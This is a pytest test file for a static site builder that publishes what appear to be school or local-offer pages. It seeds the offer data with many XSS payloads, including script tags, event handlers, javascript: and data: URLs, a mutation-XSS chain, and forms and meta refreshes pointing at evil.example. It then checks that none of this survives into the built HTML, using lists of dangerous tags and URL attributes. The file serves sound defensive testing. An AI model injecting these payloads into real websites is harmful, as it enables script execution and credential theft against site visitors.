"""Offers carrying common XSS payloads: nothing of them survives into the built site as markup."""
from __future__ import annotations

import json
from collections import Counter
from pathlib import Path

import pytest

from site_helpers import Elements, build, make_borough, parse, set_field

FRONT_MATTER = {
    "name": "<script>alert('name')</script>Evil <b onmouseover=alert(1)>School</b>",
    "town": "<img src=x onerror=alert('town')>",
    "ward": '"><svg onload=alert(1)>',
    "address": "1 <iframe src=javascript:alert(1)></iframe> Street",
    "website": "javascript:alert('website')",
    "phone": "<a href=javascript:alert(1)>0161 496 0000</a>",
    "approved_by": "<script>alert('approved')</script>Governors",
    "languages": ["<script>alert('language')</script>English"],
    "specialist_provision": ["<img src=x onerror=alert('need')>"],
}
SENCO = ('senco:\n  name: "<script>alert(1)</script>Sam"\n'
         '  email: "x@example.org\\"><script>alert(1)</script>"\n  phone: "javascript:alert(1)"')
BODY = """
<script>alert('body')</script>
<img src=x onerror=alert('img')>

[click me](javascript:alert('link'))
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[spaced]( javascript:alert(1))
<a href="javascript:alert('raw')">raw link</a> <a href="&#106;avascript:alert(1)">entity</a>
<a href="JaVaScRiPt:alert(1)">mixed case</a> <a href="vbscript:msgbox(1)">vb</a>

<iframe src="https://evil.example"></iframe>
<svg onload=alert('svg')><circle r="10"/></svg>
<object data="evil.swf"></object><embed src="evil.swf">
<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>
<style>body { display: none }</style>
<div onclick="alert(1)" style="background:url(javascript:alert(1))">styled</div>
![image](javascript:alert('image'))
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<details open ontoggle=alert(1)><summary>x</summary></details>

## Our answer <script>alert('heading')</script> <img src=x onerror=alert(1)> {#contacts onclick="alert(1)"}

Text.
"""
DANGEROUS_TAGS = ("script", "iframe", "object", "embed", "svg", "form", "input", "button",
                  "style", "math", "base", "meta", "link", "frame", "applet")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "poster", "data",
                  "background", "srcset")


def poison(offer: Path) -> None:
    for key, value in FRONT_MATTER.items():
        set_field(offer, key, json.dumps(value))
    text = offer.read_text(encoding="utf-8")
    start = text.index("senco:")
    end = text.index("question_set:")
    text = text[:start] + SENCO + "\n" + text[end:]
    offer.write_text(text.replace("\n---\n", "\n---\n" + BODY, 1), encoding="utf-8")


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    import os
    os.environ["LOCALOFFER_TODAY"] = "2026-11-28"
    clean, dirty = tmp_path_factory.mktemp("clean"), tmp_path_factory.mktemp("dirty")
    make_borough(clean, 3)
    for offer in make_borough(dirty, 3):
        poison(offer)
    return build(clean), build(dirty)


def pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def test_the_payloads_were_published(sites: tuple[Path, Path]) -> None:
    dirty = sites[1]
    html = (dirty / "settings" / "setting-00000" / "index.html").read_text(encoding="utf-8")
    assert "Evil" in html and "School" in html and "click me" in html and "styled" in html


def test_no_event_handlers_or_script_urls_anywhere(sites: tuple[Path, Path]) -> None:
    for page in pages(sites[1]):
        for tag, attributes in parse(page).elements:
            for name, value in attributes.items():
                assert not name.startswith("on"), f"{page}: <{tag} {name}=...>"
                if name in URL_ATTRIBUTES and value:
                    scheme = "".join(value.split()).lower()
                    assert not scheme.startswith(("javascript:", "vbscript:", "data:")), \
                        f"{page}: <{tag} {name}={value!r}>"


def test_no_markup_beyond_what_the_theme_puts_on_a_clean_page(sites: tuple[Path, Path]) -> None:
    clean, dirty = sites
    for page in pages(dirty):
        twin = clean / page.relative_to(dirty)
        if not twin.exists():
            continue
        found, expected = parse(page), parse(twin)
        counts = Counter(tag for tag, _ in found.elements if tag in DANGEROUS_TAGS)
        allowed = Counter(tag for tag, _ in expected.elements if tag in DANGEROUS_TAGS)
        assert counts <= allowed, f"{page}: {counts - allowed}"
        theme_scripts = {script.strip() for script in expected.scripts}
        assert {script.strip() for script in found.scripts} <= theme_scripts, page


def test_offer_pages_carry_only_the_themes_scripts(sites: tuple[Path, Path]) -> None:
    clean, dirty = sites
    page = dirty / "settings" / "setting-00001" / "index.html"
    sources = [attributes.get("src") for tag, attributes in parse(page).elements
               if tag == "script"]
    theme = [attributes.get("src") for tag, attributes in
             parse(clean / "settings" / "setting-00001" / "index.html").elements
             if tag == "script"]
    assert sources == theme
    assert all(src is None or src.startswith(("../../assets/", "../../search/"))
               for src in sources), sources


def test_the_page_title_is_text(sites: tuple[Path, Path]) -> None:
    html = (sites[1] / "settings" / "setting-00000" / "index.html").read_text(encoding="utf-8")
    title = html[html.index("<title>"):html.index("</title>")]
    assert "<script" not in title and "&lt;script&gt;" in title
    page = Elements()
    page.feed(html)
    titles = [attributes for tag, attributes in page.elements if tag == "title"]
    assert len(titles) == 1  # the name made no element of its own in the head
    assert not [script for script in page.scripts if "alert(" in script]
